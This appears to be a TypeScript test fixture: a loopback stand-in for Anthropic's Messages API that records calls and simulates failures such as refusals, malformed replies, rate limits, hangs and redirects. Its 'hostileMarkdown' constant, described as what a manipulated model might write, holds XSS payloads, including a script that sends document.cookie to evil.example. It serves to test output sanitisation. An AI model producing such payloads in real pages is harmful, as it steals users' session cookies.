import { once } from "node:events";
import {
  createServer,
  type IncomingHttpHeaders,
  type IncomingMessage,
  type ServerResponse,
} from "node:http";
import { text as readText } from "node:stream/consumers";

import { z } from "zod";

const callSchema = z.object({
  model: z.string(),
  max_tokens: z.number(),
  system: z.string(),
  messages: z.array(
    z.object({
      role: z.string(),
      content: z.array(z.object({ type: z.literal("text"), text: z.string() })),
    }),
  ),
});

/** How the service behaves until it is told otherwise. */
export type Behaviour =
  | "replies"
  | "is empty"
  | "refuses"
  | "stops at the limit"
  | "is malformed"
  | "is no JSON"
  | "is overloaded"
  | "fails"
  | "hangs"
  | "hangs midway"
  | "is cut"
  | "hangs up"
  | "redirects";

export type CapturedCall = {
  headers: IncomingHttpHeaders;
  raw: string;
  body: z.infer<typeof callSchema>;
};

/** A stand-in for the model service, on loopback. */
export type MessagesApi = {
  url: string;
  calls: CapturedCall[];
  /** How many callers hung up before they had their reply. */
  abandonedCalls: () => number;
  behave: (behaviour: Behaviour, text?: string) => void;
  stop: () => Promise<void>;
};

/** What a model might write when somebody has talked it into doing harm to the page. */
export const hostileMarkdown = [
  '<script>fetch("https://evil.example/?"+document.cookie)</script>',
  "![x](https://evil.example/pixel.png)",
  "[click](javascript:alert(1)) [here](https://evil.example)",
  '<img src=x onerror="alert(1)"><iframe src="https://evil.example"></iframe>',
].join("\n\n");

/** Starts a server that speaks Anthropic's Messages API and remembers what it was sent. */
export async function startMessagesApi(): Promise<MessagesApi> {
  const calls: CapturedCall[] = [];
  let behaviour: Behaviour = "replies";
  let words = "For 8 hours. [1]";
  let abandoned = 0;
  const server = createServer(async (request, response) => {
    response.once("close", () => {
      if (!response.writableFinished && isPatient(behaviour)) abandoned += 1;
    });
    calls.push(await capture(request));
    answer(response, behaviour, words);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = z.object({ port: z.number() }).parse(server.address());
  return {
    url: `http://127.0.0.1:${address.port}`,
    calls,
    abandonedCalls: () => abandoned,
    behave: (next, text) => {
      behaviour = next;
      words = text ?? words;
    },
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

function isPatient(behaviour: Behaviour): boolean {
  return behaviour === "hangs" || behaviour === "hangs midway";
}

async function capture(request: IncomingMessage): Promise<CapturedCall> {
  const raw = await readText(request);
  return { headers: request.headers, raw, body: callSchema.parse(JSON.parse(raw)) };
}

function answer(response: ServerResponse, behaviour: Behaviour, words: string): void {
  const whole = JSON.stringify(message({ content: [{ type: "text", text: words }] }));
  switch (behaviour) {
    case "replies":
      return send(response, 200, whole);
    case "is empty":
      return send(response, 200, JSON.stringify(message({ content: [] })));
    case "refuses":
      return send(response, 200, JSON.stringify(message({ content: [], stop_reason: "refusal" })));
    case "stops at the limit":
      return send(response, 200, JSON.stringify(message({ stop_reason: "max_tokens" })));
    case "is malformed":
      return send(response, 200, JSON.stringify({ type: "message", content: "For 8 hours." }));
    case "is no JSON":
      return send(response, 200, "<html>Bad gateway</html>");
    case "is overloaded":
      return send(response, 429, failure("rate_limit_error"), { "retry-after": "1" });
    case "fails":
      return send(response, 500, failure("api_error"));
    case "redirects":
      return send(response, 307, "", { location: "http://127.0.0.1:9/v1/messages" });
    case "hangs":
      return;
    case "hangs midway":
      response.writeHead(200, { "content-type": "application/json" });
      response.write(whole.slice(0, 40));
      return;
    case "is cut":
      response.writeHead(200, {
        "content-type": "application/json",
        "content-length": whole.length,
      });
      response.write(whole.slice(0, 40), () => response.destroy());
      return;
    case "hangs up":
      response.destroy();
  }
}

function message(parts: { content?: unknown[]; stop_reason?: string }) {
  return {
    id: "msg_01",
    type: "message",
    role: "assistant",
    model: "claude-test",
    content: [{ type: "text", text: "For 8" }],
    stop_reason: "end_turn",
    stop_sequence: null,
    usage: { input_tokens: 1, output_tokens: 1 },
    ...parts,
  };
}

function failure(type: string): string {
  return JSON.stringify({
    type: "error",
    error: { type, message: "provider words, not for people" },
  });
}

function send(response: ServerResponse, status: number, body: string, headers = {}): void {
  response.writeHead(status, { "content-type": "application/json", ...headers });
  response.end(body);
}
